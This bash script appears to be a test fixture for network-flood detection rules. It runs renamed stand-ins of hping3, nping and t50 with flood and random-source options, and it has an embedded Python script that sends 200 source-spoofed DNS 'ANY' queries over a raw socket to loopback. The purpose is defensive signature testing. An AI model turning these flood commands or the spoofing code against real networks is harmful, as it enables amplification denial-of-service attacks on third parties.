#!/bin/bash
# Launch packet floods from this host, bounded and on loopback only. hping3, nping and t50 are not installed, and the signatures key on their names, so stand-ins (copies of /bin/true named after them in /usr/local/bin of the overlay) are run with the flood and spoofing options booters use; nothing is sent by them. Then a Python script does a real spoofed reflection burst: an IPPROTO_RAW socket writes 200 UDP packets to 127.0.0.1 port 53 (DNS, the classic amplifier) whose IP headers claim the source 127.0.0.77, the "victim".
# technique: T1498 T1498.001 T1498.002
# expect: network-flood-tool spoofed-source-flood
set -eu
mkdir -p /usr/local/bin
for tool in hping3 nping t50; do cp /bin/true "/usr/local/bin/$tool"; done
/usr/local/bin/hping3 --flood -S -p 80 127.0.0.1
/usr/local/bin/hping3 -2 -i u100 -p 53 127.0.0.1
/usr/local/bin/nping --udp --rate 50000 -p 123 127.0.0.1
/usr/local/bin/t50 127.0.0.1 --flood --protocol UDP
/usr/local/bin/hping3 -2 --rand-source -p 123 -c 50 127.0.0.1
python3 - <<'PY'
import socket
import struct


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


src, dst = "127.0.0.77", "127.0.0.1"
query = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x01\x00\x00\xff\x00\x01"  # ". ANY"
udp = struct.pack("!HHHH", 40000, 53, 8 + len(query), 0) + query
total = 20 + len(udp)
header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, total, 1, 0, 64, socket.IPPROTO_UDP, 0,
                     socket.inet_aton(src), socket.inet_aton(dst))
header = header[:10] + struct.pack("!H", checksum(header)) + header[12:]
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
for _ in range(200):
    raw.sendto(header + udp, (dst, 0))
raw.close()
print("sent 200 spoofed packets")
PY
